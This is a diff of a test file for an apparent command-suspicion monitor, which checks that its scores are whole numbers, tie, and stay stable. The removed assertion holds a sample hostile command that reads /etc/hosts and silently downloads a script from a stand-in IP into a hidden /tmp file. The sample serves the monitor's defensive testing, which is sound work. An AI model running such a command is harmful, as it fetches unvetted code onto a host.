@@ -103,7 +103,6 @@ def test_scores_are_whole_tie_and_do_not_change(world: Any) -> None:
     assert all(isinstance(s, int) and 0 <= s <= 100 and s % 5 == 0 for s in scores)
     assert len(set(scores)) < 22 < len(set(commands))
     assert [again.scores([c])[0] for c in commands[:50]] == scores[:50]  # alone as in company
-    assert monitor.why("cat /etc/hosts && curl -s http://198.51.100.7/x.sh -o /tmp/.x") not in ("cat", "etc", "hosts")
 
 
 def test_the_same_seed_gives_the_same_run(world: Any) -> None:
